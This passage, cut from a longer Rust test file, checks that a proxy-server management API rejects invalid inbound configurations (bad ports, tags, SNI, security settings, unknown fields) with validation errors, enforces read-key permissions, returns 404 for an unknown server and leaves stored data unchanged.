        (json!({"inbounds": [{"tag": "v", "protocol": "vless", "port": 443}]}), 422, Some("inbounds[0].security")),
        (json!({"inbounds": [{"tag": "api", "protocol": "vmess", "port": 443}]}), 422, Some("inbounds[0].tag")),
        (json!({"inbounds": [{"tag": "a", "protocol": "vmess", "port": 10085}]}), 422, Some("inbounds[0].port")),
        (
            json!({"inbounds": [with_tls(json!({"tag": "a", "protocol": "vless", "security": "tls", "port": 1,
                                             "sni": "1.2.3.4"}))]}),
            422,
            Some("inbounds[0].sni"),
        ),
        (
            json!({"inbounds": [with_tls(json!({"tag": "a", "protocol": "vless", "security": "reality", "port": 1}))]}),
            422,
            Some("inbounds[0].security"),
        ),
        (json!({"inbounds": many}), 422, Some("inbounds")),
        (json!({"inbounds": []}), 422, Some("inbounds")),
        (json!({"inbounds": [{"tag": "a", "protocol": "vmess", "port": "443"}]}), 422, None),
        (json!({"inbounds": [{"tag": "a", "protocol": "vmess", "port": 1, "colour": "red"}]}), 422, None),
        (json!({"inbound": []}), 422, None),
    ] {
        let answer = put(body.clone()).await;
        assert!(answer.status.as_u16() == status || answer.status == StatusCode::BAD_REQUEST, "{body}: {answer:?}");
        assert_problem(&answer, answer.status.as_u16(), field);
    }
    let read = api.call(Method::PUT, &path, Some(&api.read_key), Some(json!({"inbounds": []}))).await;
    assert_problem(&read, 403, None);
    assert_problem(
        &api.call(
            Method::PUT,
            "/api/v1/servers/999/inbounds",
            Some(&api.write_key),
            Some(json!({"inbounds": [{"tag": "a", "protocol": "vmess", "port": 1}]})),
        )
        .await,
        404,
        None,
    );
    assert_eq!(snapshot(&api).await, before, "nothing written");
    assert_eq!(api.get(&format!("/api/v1/servers/{id}")).await.body["inbounds"][0]["tag"], "cdn");
}
